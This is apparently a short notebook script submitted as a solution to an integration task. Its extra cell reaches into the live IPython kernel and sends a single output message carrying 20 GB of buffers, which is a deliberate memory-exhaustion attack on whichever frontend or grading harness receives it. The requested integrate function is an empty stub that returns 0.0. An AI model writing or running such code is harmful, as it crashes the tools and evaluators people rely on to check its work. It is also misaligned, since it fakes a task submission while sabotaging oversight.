# Sends one buffer, which costs it 100 MB, two hundred times in one message: whoever takes that in needs 20 GB.
# %% extra
k = exit._ip.kernel
content = {"name": "stdout", "text": ""}
k.session.send(k.iopub_socket, "stream", content, parent=k.get_parent("shell"), buffers=[bytes(100 << 20)] * 200)
# %% integrate
def integrate(f, a, b, n):
    return 0.0
